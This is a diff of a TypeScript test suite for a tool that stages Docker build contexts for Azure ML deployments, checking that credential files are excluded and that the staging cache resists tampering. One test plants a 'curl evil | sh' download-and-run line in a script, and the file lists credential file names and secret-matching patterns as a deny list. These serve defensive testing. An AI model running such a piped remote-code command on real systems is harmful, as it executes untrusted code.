@@ -5,12 +5,12 @@
 import * as fs from "fs";
 import * as os from "os";
 import * as path from "path";
-import { BuildContextSpec, computeFingerprint, prepareBuildContext, SECRET_EXCLUDES, stagingRoot } from "../../lib/image/build-context";
+import { computeFingerprint, prepareBuildContext, SECRET_EXCLUDES, stagingRoot } from "../../lib/image/build-context";
 import { preparePrivateRoot, removeOldContexts, manifestPath, touchContext } from "../../lib/image/staging/staging-root";
-import { resolveEntryScript } from "../../lib/entry-script";
 import { ModelSource } from "../../lib/model/model-source";
 import { ValidationError } from "../../lib/errors";
 import { useStagingSandbox } from "../staging-sandbox";
+import { contextSpec } from "./context-spec";
 import { imageView, packEntries, stageContext } from "../context-view";
 
 const SCRIPT = "def init():\n    pass\n\ndef run(data):\n    return data\n";
@@ -38,20 +38,6 @@ function project(extra: { [rel: string]: string } = {}): string {
     ...extra,
   });
   return root;
-}
-
-function spec(root: string, overrides: Partial<BuildContextSpec> = {}): BuildContextSpec {
-  return {
-    scoringImageDir: path.join(root, "scoring-image"),
-    model: ModelSource.fromLocalPath(path.join(root, "models", "bundle")).resolve("T"),
-    entryScript: resolveEntryScript("T", path.join(root, "src", "score.py")),
-    requirementsTxt: "numpy\n",
-    generatedFiles: { "app/host.json": "{}" },
-    buildArgs: { AZUREML_ENTRY_SCRIPT: "score.py" },
-    platform: "linux/amd64",
-    owner: "Deployment",
-    ...overrides,
-  };
 }
 
 /** The staged files from the entry script's folder. */
@@ -99,7 +85,7 @@ describe("secret exclusions", () => {
   test.each(["src", "models/bundle"])("each hostile file in %s is left out, reported sorted, and does not change the fingerprint", (folder) => {
     const clean = project();
     const root = project(Object.fromEntries(HOSTILE.map((h) => [`${folder}/${h}`, `secret ${h}`])));
-    const staged = stageContext(spec(root));
+    const staged = stageContext(contextSpec(root));
     const prefix = folder === "src" ? "source/" : "model/bundle/";
     // As the image gets them: the model's small files unpacked from the pack.
     const inImage = Object.keys(imageView(staged.directory));
@@ -109,7 +95,7 @@ describe("secret exclusions", () => {
     const onDisk = fs.readdirSync(staged.directory, { recursive: true }).map(String);
     expect(onDisk.some((f) => /secret|\.env|id_rsa|tfstate/.test(f))).toBe(false);
     expect(packEntries(path.join(staged.directory, "model-small-files.tar")).some((f) => /secret|\.env|id_rsa|tfstate/.test(f))).toBe(false);
-    expect(staged.fingerprint).toBe(computeFingerprint(spec(clean)));
+    expect(staged.fingerprint).toBe(computeFingerprint(contextSpec(clean)));
     const expected = [
       ".aws/", ".azure/", ".env", ".env.production", ".git-credentials", ".netrc", ".npmrc", ".pypirc", ".ssh/",
       "credentials", "id_ed25519", "id_rsa", "nested/deeper/.env", "prod.tfvars", "secrets.json", "server.key",
@@ -124,7 +110,7 @@ describe("secret exclusions", () => {
 
   test("a ! line in the folder's .dockerignore naming one re-includes it (reported as kept)", () => {
     const root = project({ "src/.env": "A=1", "src/server.key": "k", "src/.dockerignore": "!.env\n" });
-    const staged = stageContext(spec(root));
+    const staged = stageContext(contextSpec(root));
     expect(staged.files).toContain("source/.env");
     expect(staged.files).not.toContain("source/server.key");
     expect(staged.secretExcluded).toEqual(["source/server.key"]);
@@ -142,14 +128,14 @@ describe("secret exclusions", () => {
       "src/sub/node_modules/m/index.js": "",
       "src/other.py": "left out by *",
     });
-    const staged = stageContext(spec(root));
+    const staged = stageContext(contextSpec(root));
     expect(sourceFiles(staged)).toEqual(["source/score.py", "source/sub/ok.py"]);
     expect(staged.secretExcluded).toEqual(["source/sub/.env", "source/sub/deep/ca.pem", "source/sub/deep/tls.key"]);
     const onDisk = fs.readdirSync(staged.directory, { recursive: true }).map(String);
     expect(onDisk.filter((f) => f.startsWith("source"))).toEqual(expect.not.arrayContaining([expect.stringMatching(/\.env|\.key|\.pem|\.git|node_modules/)]));
     // A ! line that names the secret itself still re-includes it.
     const named = project({ "src/.dockerignore": "*\n!score.py\n!sub\n!sub/*.pem\n", "src/sub/ca.pem": "public cert", "src/sub/.env": "A=1" });
-    const kept = stageContext(spec(named));
+    const kept = stageContext(contextSpec(named));
     expect(sourceFiles(kept)).toEqual(["source/score.py", "source/sub/ca.pem"]);
     expect(kept.secretExcluded).toEqual(["source/sub/.env"]);
   });
@@ -161,7 +147,7 @@ describe("secret exclusions", () => {
     fs.symlinkSync("sub/deep/tls.key", path.join(src, "tls.txt"));
     fs.symlinkSync(".kube", path.join(src, "kube"));
     fs.symlinkSync("data.txt", path.join(src, "data-link.txt"));
-    const staged = stageContext(spec(root));
+    const staged = stageContext(contextSpec(root));
     expect(sourceFiles(staged)).toEqual(["source/.kube/cache.txt", "source/data-link.txt", "source/data.txt", "source/kube/cache.txt", "source/score.py"]);
     expect(staged.secretExcluded).toEqual([
       "source/.env",
@@ -175,7 +161,7 @@ describe("secret exclusions", () => {
     // A link to a whole secret folder.
     const ssh = project({ "src/.ssh/id_ed25519": "SECRET" });
     fs.symlinkSync(".ssh", path.join(ssh, "src", "keys"));
-    const sshStaged = stageContext(spec(ssh));
+    const sshStaged = stageContext(contextSpec(ssh));
     expect(sourceFiles(sshStaged)).toEqual(["source/score.py"]);
     expect(sshStaged.secretExcluded).toEqual(["source/.ssh/", "source/keys/ (links to .ssh)"]);
   });
@@ -188,7 +174,7 @@ describe("secret exclusions", () => {
       "src/.git/HEAD": "ref: refs/heads/main\n",
       "src/.git/config": "[remote] url = https://user:SECRET@example.com/x.git",
     });
-    const staged = stageContext(spec(root));
+    const staged = stageContext(contextSpec(root));
     expect(sourceFiles(staged)).toEqual(["source/.aws/config", "source/.git/HEAD", "source/score.py"]);
     expect(staged.secretExcluded).toEqual(["source/.aws/credentials"]);
     expect(warnings()).toContain(`${keptWarning}source/.aws/config.`);
@@ -204,7 +190,7 @@ describe("secret exclusions", () => {
       "src/.git/HEAD": "ref: refs/heads/main\n",
       "src/.git/id_rsa": "SECRET",
     });
-    const staged = stageContext(spec(root));
+    const staged = stageContext(contextSpec(root));
     expect(sourceFiles(staged)).toEqual(["source/.git/HEAD", "source/cert.pem", "source/keys.pem/readme.txt", "source/score.py"]);
     expect(staged.secretExcluded).toEqual(["source/.git/id_rsa", "source/keys.pem/.env", "source/keys.pem/id_rsa"]);
   });
@@ -217,7 +203,7 @@ describe("secret exclusions", () => {
     });
     fs.symlinkSync("model/private/creds.yaml", path.join(root, "src", "settings.yaml"));
     fs.symlinkSync("model/private", path.join(root, "src", "cfg"));
-    const staged = stageContext(spec(root, { model: ModelSource.fromLocalPath(path.join(root, "src", "model")).resolve("T") }));
+    const staged = stageContext(contextSpec(root, { model: ModelSource.fromLocalPath(path.join(root, "src", "model")).resolve("T") }));
     expect(staged.files.filter((f) => !f.startsWith("app/"))).toEqual(["Dockerfile", "host-requirements.txt", "model-small-files.tar", "model/.packed", "requirements.txt", "source/score.py"]);
     expect(packEntries(path.join(staged.directory, "model-small-files.tar"))).toEqual(["./", "model/", "model/weights.bin"]);
   });
@@ -228,7 +214,7 @@ describe("secret exclusions", () => {
     fs.renameSync(path.join(image, "Dockerfile"), path.join(image, "Dockerfile.real"));
     fs.writeFileSync(path.join(image, "Dockerfile.real"), "FROM python\n# a longer Dockerfile than its link's target name\n");
     fs.symlinkSync("Dockerfile.real", path.join(image, "Dockerfile"));
-    const staged = stageContext(spec(root));
+    const staged = stageContext(contextSpec(root));
     expect(fs.statSync(path.join(staged.directory, "Dockerfile")).size).toBe(fs.statSync(path.join(image, "Dockerfile.real")).size);
     expect(fs.readFileSync(path.join(staged.directory, "Dockerfile"), "utf8")).toContain("a longer Dockerfile");
   });
@@ -236,7 +222,7 @@ describe("secret exclusions", () => {
   test("every file left out is named, however many", () => {
     const many = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`src/keys/k${String(i).padStart(2, "0")}.pem`, "SECRET"]));
     const root = project({ ...many, "src/terraform.tfstate": "{}" });
-    const staged = stageContext(spec(root));
+    const staged = stageContext(contextSpec(root));
     expect(staged.secretExcluded).toHaveLength(41);
     const message = warnings()[0];
     for (const f of staged.secretExcluded!) expect(message).toContain(f);
@@ -245,22 +231,22 @@ describe("secret exclusions", () => {
   });
 
   test("no warning when nothing was left out", () => {
-    stageContext(spec(project()));
+    stageContext(contextSpec(project()));
     expect(warn).not.toHaveBeenCalled();
   });
 
   test("an entry script folder with local Terraform state next to it: state left out, fingerprint stable across applies", () => {
     const root = project({ "src/terraform.tfstate": "{\"serial\": 1}" });
-    const before = computeFingerprint(spec(root));
+    const before = computeFingerprint(contextSpec(root));
     writeTree(root, { "src/terraform.tfstate": "{\"serial\": 2, \"password\": \"p\"}", "src/terraform.tfstate.backup": "{\"serial\": 1}" });
-    expect(computeFingerprint(spec(root))).toBe(before);
+    expect(computeFingerprint(contextSpec(root))).toBe(before);
   });
 });
 
 describe("names the image layout must not trip over", () => {
   test("a model folder named .packed gets the other placeholder name, so the pack's folder is not unpacked over a file", () => {
     const root = project({ "models/.packed/w.bin": "w" });
-    const staged = stageContext(spec(root, { model: ModelSource.fromLocalPath(path.join(root, "models", ".packed")).resolve("T") }));
+    const staged = stageContext(contextSpec(root, { model: ModelSource.fromLocalPath(path.join(root, "models", ".packed")).resolve("T") }));
     expect(staged.files.filter((f) => f.startsWith("model"))).toEqual(["model-small-files.tar", "model/.packed-placeholder"]);
     expect(packEntries(path.join(staged.directory, "model-small-files.tar"))).toEqual(["./", ".packed/", ".packed/w.bin"]);
     expect(imageView(staged.directory)["model/.packed/w.bin"].toString("utf8")).toBe("w");
@@ -270,7 +256,7 @@ describe("names the image layout must not trip over", () => {
     const root = project();
     const bad = Buffer.concat([Buffer.from(path.join(root, "models", "bundle", "caf")), Buffer.from([0xe9]), Buffer.from(".txt")]);
     fs.writeFileSync(bad, "latin-1 name");
-    expect(() => stageContext(spec(root))).toThrow(`Deployment: invalid model ${JSON.stringify(path.join(root, "models", "bundle"))}: the name of caf\uFFFD.txt is not valid UTF-8. Allowed: file and folder names in UTF-8 (rename the file)`);
+    expect(() => stageContext(contextSpec(root))).toThrow(`Deployment: invalid model ${JSON.stringify(path.join(root, "models", "bundle"))}: the name of caf\uFFFD.txt is not valid UTF-8. Allowed: file and folder names in UTF-8 (rename the file)`);
   });
 });
 
@@ -287,14 +273,14 @@ describe("dangerous folders are refused", () => {
     [path.dirname(process.cwd()), /contains the cdktf project root/],
   ])("entry script folder %s: the error names the script given and the folder", (dir, message) => {
     const root = project();
-    expect(() => computeFingerprint(spec(root, { entryScript: script(dir) }))).toThrow(ValidationError);
-    expect(() => computeFingerprint(spec(root, { entryScript: script(dir) }))).toThrow(message);
+    expect(() => computeFingerprint(contextSpec(root, { entryScript: script(dir) }))).toThrow(ValidationError);
+    expect(() => computeFingerprint(contextSpec(root, { entryScript: script(dir) }))).toThrow(message);
   });
 
   test("a model folder that is the project root", () => {
     const root = project();
     const model = { absolutePath: process.cwd(), kind: "directory" as const, basename: "x" };
-    expect(() => computeFingerprint(spec(root, { model }))).toThrow(/Deployment: invalid model ".*": it contains the cdktf project root/);
+    expect(() => computeFingerprint(contextSpec(root, { model }))).toThrow(/Deployment: invalid model ".*": it contains the cdktf project root/);
   });
 
   test("without a cdktf.json, the folder with package.json is the project root (an app run with plain node)", () => {
@@ -304,11 +290,11 @@ describe("dangerous folders are refused", () => {
     const before = process.cwd();
     process.chdir(app);
     try {
-      expect(() => computeFingerprint(spec(root, { entryScript: script(app) }))).toThrow(
+      expect(() => computeFingerprint(contextSpec(root, { entryScript: script(app) }))).toThrow(
         `Deployment: invalid entryScript ${JSON.stringify(path.join(app, "score.py"))}: its folder ${app}, copied into the image as a whole, contains the project root (the folder with package.json) ${app} (Terraform state, cdktf.out, node_modules)`,
       );
       // A folder of its own inside the project is fine.
-      expect(computeFingerprint(spec(root, { entryScript: script(path.join(app, "scoring")) }))).toMatch(/^[0-9a-f]{64}$/);
+      expect(computeFingerprint(contextSpec(root, { entryScript: script(path.join(app, "scoring")) }))).toMatch(/^[0-9a-f]{64}$/);
     } finally {
       process.chdir(before);
     }
@@ -316,13 +302,13 @@ describe("dangerous folders are refused", () => {
 
   test("a folder holding the staging root", () => {
     const root = project();
-    expect(() => computeFingerprint(spec(root, { entryScript: script(sandbox()) }))).toThrow(/its folder .*, copied into the image as a whole, contains the build-context staging folder/);
+    expect(() => computeFingerprint(contextSpec(root, { entryScript: script(sandbox()) }))).toThrow(/its folder .*, copied into the image as a whole, contains the build-context staging folder/);
   });
 
   test("a model file (not a folder) at the project root is fine: only that file is copied", () => {
     const root = project();
     const model = { absolutePath: path.join(process.cwd(), "package.json"), kind: "file" as const, basename: "package.json" };
-    const staged = stageContext(spec(root, { model }));
+    const staged = stageContext(contextSpec(root, { model }));
     expect(Object.keys(imageView(staged.directory)).filter((f) => f.startsWith("model/"))).toEqual(["model/package.json"]);
   });
 });
@@ -330,18 +316,18 @@ describe("dangerous folders are refused", () => {
 describe("nothing shadows the model (COPY order)", () => {
   test("a source folder with azureml-models/ is refused", () => {
     const root = project({ "src/azureml-models/bundle/weights.bin": "planted" });
-    expect(() => computeFingerprint(spec(root))).toThrow(/Deployment: invalid entryScript ".*src": its folder holds azureml-models\/bundle\/weights\.bin: the image copies the entry script's folder to \/var\/azureml-app, so it would replace files of the model/);
+    expect(() => computeFingerprint(contextSpec(root))).toThrow(/Deployment: invalid entryScript ".*src": its folder holds azureml-models\/bundle\/weights\.bin: the image copies the entry script's folder to \/var\/azureml-app, so it would replace files of the model/);
   });
 
   test("excluding it with .dockerignore is accepted", () => {
     const root = project({ "src/azureml-models/bundle/weights.bin": "planted", "src/.dockerignore": "azureml-models\n" });
-    expect(stageContext(spec(root)).files.some((f) => f.includes("azureml-models"))).toBe(false);
+    expect(stageContext(contextSpec(root)).files.some((f) => f.includes("azureml-models"))).toBe(false);
   });
 
   test("a model kept inside the source folder under azureml-models/ is fine (it is not copied twice)", () => {
     const root = project({ "src/azureml-models/m.pkl": "model" });
     const model = ModelSource.fromLocalPath(path.join(root, "src", "azureml-models")).resolve("T");
-    const staged = stageContext(spec(root, { model }));
+    const staged = stageContext(contextSpec(root, { model }));
     expect(Object.keys(imageView(staged.directory))).toContain("model/azureml-models/m.pkl");
     expect(staged.files.some((f) => f.startsWith("source/azureml-models"))).toBe(false);
   });
@@ -351,10 +337,10 @@ describe("the staging cache is not trusted because it exists", () => {
   test("the staging root is private: created 0700, narrowed when wider, refused when a link", () => {
     const root = stagingRoot();
     expect(root).toBe(path.join(sandbox(), "staging"));
-    stageContext(spec(project()));
+    stageContext(contextSpec(project()));
     expect(fs.statSync(root).mode & 0o777).toBe(0o700);
     fs.chmodSync(root, 0o777);
-    stageContext(spec(project()));
+    stageContext(contextSpec(project()));
     expect(fs.statSync(root).mode & 0o777).toBe(0o700);
     const link = path.join(sandbox(), "link-root");
     fs.symlinkSync(root, link);
@@ -376,19 +362,19 @@ describe("the staging cache is not trusted because it exists", () => {
 
   test("a planted score.py in the staged context is not shipped, even with its mtime set back", () => {
     const root = project();
-    const first = stageContext(spec(root));
+    const first = stageContext(contextSpec(root));
     const staged = path.join(first.directory, "source", "score.py");
     const { atime, mtime } = fs.statSync(staged);
     fs.writeFileSync(staged, "import os\nos.system('curl evil | sh')\n");
     fs.utimesSync(staged, atime, mtime);
-    const again = stageContext(spec(root));
+    const again = stageContext(contextSpec(root));
     expect(again.fingerprint).toBe(first.fingerprint);
     expect(fs.readFileSync(path.join(again.directory, "source", "score.py"), "utf8")).toBe(SCRIPT);
   });
 
   test("a big model file removed after it was hashed, before the context is staged, fails the synth by name", () => {
     const root = project({ "models/bundle/big.bin": "b".repeat(100 << 10) });
-    const context = prepareBuildContext(spec(root));
+    const context = prepareBuildContext(contextSpec(root));
     const big = fs.realpathSync(path.join(root, "models", "bundle", "big.bin"));
     fs.rmSync(big);
     expect(() => context.stageFolder()).toThrow(`Deployment: invalid buildContext ${JSON.stringify(big)}: the file changed while it was being staged (ENOENT)`);
@@ -396,7 +382,7 @@ describe("the staging cache is not trusted because it exists", () => {
 
   test("a source file changed after it was hashed: small model files are staged as hashed, a big one fails the synth", () => {
     const root = project({ "models/bundle/big.bin": "b".repeat(100 << 10) });
-    const context = prepareBuildContext(spec(root));
+    const context = prepareBuildContext(contextSpec(root));
     // Both files change after hashing and before the folder is staged, each with its size and
     // mtime kept.
     const rewrite = (file: string): void => {
@@ -412,7 +398,7 @@ describe("the staging cache is not trusted because it exists", () => {
     // written as the model is hashed, staging/small-files-pack.ts), so the folder matches its
     // fingerprint. Content of its own: a context staged before would be reused as it is.
     const small = project({ "src/unique.txt": `${Date.now()}-${Math.random()}` });
-    const again = prepareBuildContext(spec(small));
+    const again = prepareBuildContext(contextSpec(small));
     rewrite(path.join(small, "models", "bundle", "weights.bin"));
     expect(imageView(again.stageFolder().directory)["model/bundle/weights.bin"].toString("utf8")).toBe("0123456789");
   });
@@ -422,7 +408,7 @@ describe("the staging cache is not trusted because it exists", () => {
     ["the staged pack of the small model files", ["model-small-files.tar"]],
   ])("%s replaced by another file (same size and bytes) is restaged", (_, rel) => {
     const root = project({ "models/bundle/big.bin": "b".repeat(100 << 10) });
-    const first = stageContext(spec(root));
+    const first = stageContext(contextSpec(root));
     const staged = path.join(first.directory, ...rel);
     const bytes = fs.readFileSync(staged);
     fs.rmSync(staged);
@@ -430,17 +416,17 @@ describe("the staging cache is not trusted because it exists", () => {
     // A second link keeps the replacement's inode number from being reused by the restage.
     const keep = path.join(sandbox(), `keep-${counter++}`);
     fs.linkSync(staged, keep);
-    const again = stageContext(spec(root));
+    const again = stageContext(contextSpec(root));
     expect(fs.statSync(path.join(again.directory, ...rel)).ino).not.toBe(fs.statSync(keep).ino);
   });
 
   test("staging is explicit: nothing is verified or written until stageFolder() is called", () => {
     const root = project();
-    const first = stageContext(spec(root));
+    const first = stageContext(contextSpec(root));
     expect(first.directory).toBe(path.join(stagingRoot(), first.fingerprint));
     const planted = path.join(first.directory, "source", "score.py");
     fs.writeFileSync(planted, "planted\n");
-    const again = prepareBuildContext(spec(root));
+    const again = prepareBuildContext(contextSpec(root));
     // Not staged yet: the planted file is still there (no build has used the folder).
     expect(fs.readFileSync(planted, "utf8")).toBe("planted\n");
     // Staged: verified against the manifest and restaged before anyone gets the path.
@@ -449,13 +435,13 @@ describe("the staging cache is not trusted because it exists", () => {
 
   test("a context without its manifest is restaged (and gets one)", () => {
     const root = project();
-    const first = stageContext(spec(root));
+    const first = stageContext(contextSpec(root));
     const manifest = manifestPath(path.dirname(first.directory), first.fingerprint);
     const keep = path.join(sandbox(), `keep-${counter++}`);
     fs.linkSync(path.join(first.directory, "source", "score.py"), keep);
     fs.rmSync(manifest);
     // Staging verifies (here: restages) the context.
-    expect(stageContext(spec(root)).directory).toBe(first.directory);
+    expect(stageContext(contextSpec(root)).directory).toBe(first.directory);
     expect(fs.statSync(path.join(first.directory, "source", "score.py")).ino).not.toBe(fs.statSync(keep).ino);
     expect(fs.existsSync(manifest)).toBe(true);
   });
@@ -465,7 +451,7 @@ describe("the staging cache is not trusted because it exists", () => {
     fs.chmodSync(path.join(root, "src", "score.py"), 0o700);
     fs.chmodSync(path.join(root, "models", "bundle", "big.bin"), 0o600);
     fs.chmodSync(path.join(root, "models", "bundle"), 0o700);
-    const staged = stageContext(spec(root));
+    const staged = stageContext(contextSpec(root));
     expect(fs.statSync(path.join(staged.directory, "source", "score.py")).mode & 0o777).toBe(0o644);
     expect(fs.statSync(path.join(staged.directory, "model", "bundle", "big.bin")).mode & 0o777).toBe(0o644);
     expect(fs.statSync(path.join(staged.directory, "model-small-files.tar")).mode & 0o777).toBe(0o644);
